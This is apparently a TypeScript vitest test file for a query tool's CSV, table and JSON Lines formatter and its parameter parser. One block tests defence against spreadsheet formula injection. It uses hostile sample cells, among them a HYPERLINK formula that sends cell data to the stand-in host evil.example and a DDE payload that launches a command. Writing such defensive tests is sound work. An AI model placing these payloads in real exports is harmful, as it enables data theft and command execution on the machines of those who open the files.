import { describe, expect, it } from 'vitest';
import { formatRows, parseParams } from '../src/internal/row-format.js';

const rows = [
  { person: { label: 'Person', key: 'keir starmer', name: 'Keir Starmer' }, sectors: [{ key: 'defence', name: 'Defence' }, { key: 'space', name: 'Space' }], count: 2 },
  { person: { label: 'Person', key: 'a', name: 'Said "Hi", then left' }, sectors: [], count: 1 },
];

describe('query rows as table and CSV', () => {
  it('flattens entities to names and lists to "a; b" in CSV, quoting as RFC 4180 asks', () => {
    expect(formatRows(rows, 'csv')).toBe('person,sectors,count\nKeir Starmer,Defence; Space,2\n"Said ""Hi"", then left",,1\n');
  });
  it('aligns a table under its header', () => {
    const lines = formatRows(rows, 'table').split('\n');
    expect(lines[0]).toMatch(/^person\s+sectors\s+count$/);
    expect(lines[2]!.indexOf('Defence')).toBe(lines[0]!.indexOf('sectors'));
  });
  it('keeps JSON Lines one row a line', () => {
    expect(formatRows(rows, 'jsonl').trim().split('\n')).toHaveLength(2);
  });
  it('reads --param values as JSON where they parse, strings otherwise', () => {
    expect(parseParams(['country=JPN', 'limit=5', 'types=["MET"]', 'from=2026-01-01'])).toEqual({ country: 'JPN', limit: 5, types: ['MET'], from: '2026-01-01' });
    expect(() => parseParams(['nope'])).toThrow(/name=value/);
  });
});

describe('query --format csv against spreadsheet formula injection (OWASP)', () => {
  const hostile = [
    { name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', n: 1 },
    { name: '+cmd|\' /C calc\'!A0', n: -2 },
    { name: '-2+3', n: 0 },
    { name: '@SUM(A1:A9)', n: 3 },
    { name: '\tTabbed', n: 4 },
    { name: '\rReturn', n: 5 },
    { name: 'Plain name', n: 6 },
  ];
  it('prefixes a single quote to cells that start with = + - @ tab or CR, and leaves numbers and plain text alone', () => {
    const lines = formatRows(hostile, 'csv').split('\n');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",1`);
    expect(lines[2]).toBe(`'+cmd|' /C calc'!A0,-2`);
    expect(lines[3]).toBe(`'-2+3,0`);
    expect(lines[4]).toBe(`'@SUM(A1:A9),3`);
    expect(lines[5]).toBe(`'\tTabbed,4`);
    expect(lines[6]).toBe(`"'\rReturn",5`);
    expect(lines[7]).toBe('Plain name,6');
  });
  it('leaves JSON and table output exact', () => {
    expect(JSON.parse(formatRows(hostile, 'jsonl').split('\n')[0]!).name).toBe(hostile[0]!.name);
  });
});
